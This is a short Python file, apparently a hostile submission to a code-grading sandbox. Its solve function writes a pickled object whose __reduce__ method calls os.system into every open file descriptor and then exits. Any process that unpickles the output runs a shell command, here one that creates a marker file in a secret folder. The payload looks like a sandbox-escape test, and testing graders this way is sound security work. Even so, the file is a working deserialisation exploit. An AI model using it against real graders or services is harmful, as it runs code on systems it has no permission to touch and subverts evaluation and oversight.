"""Puts a pickle that runs a command into every channel it has."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, (f"touch {SECRET_FOLDER}/hostile-was-here",)


def solve(x):
    for handle in range(1, 64):
        try:
            os.write(handle, pickle.dumps(Command()))
        except OSError:
            pass
    os._exit(0)
